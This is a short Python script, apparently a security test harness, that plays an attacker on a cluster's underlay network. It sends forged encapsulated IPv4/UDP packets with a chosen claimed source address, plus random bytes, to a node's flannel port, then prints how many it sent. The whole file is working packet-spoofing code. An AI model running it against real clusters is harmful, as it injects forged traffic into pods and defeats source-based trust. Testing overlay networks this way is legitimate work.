"""An attacker on the underlay: send N of each kind of forged datagram at a node's flannel port.

    spoof.py NODE_IP PORT CLAIMED_SRC POD_IP POD_PORT N

1. from our own PORT (as if we were a flannel node): a valid inner IPv4/UDP packet CLAIMED_SRC → POD_IP:POD_PORT
2. the same from another source port
3. random bytes from PORT
Prints a JSON count of what was sent.
"""

import json
import os
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def inner_packet(src: str, dst: str, dport: int) -> bytes:
    payload = b"spoofed!"
    udp = struct.pack("!HHHH", 40000, dport, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp


def main() -> None:
    node, port, claimed, pod, pod_port, n = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
    packet = inner_packet(claimed, pod, pod_port)
    counts = {"valid_from_flannel_port": 0, "valid_from_other_port": 0, "garbage": 0}
    same_port = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    same_port.bind(("0.0.0.0", port))
    other_port = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(n):
        same_port.sendto(packet, (node, port))
        counts["valid_from_flannel_port"] += 1
        other_port.sendto(packet, (node, port))
        counts["valid_from_other_port"] += 1
        same_port.sendto(os.urandom(1 + os.urandom(1)[0] * 4), (node, port))
        counts["garbage"] += 1
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
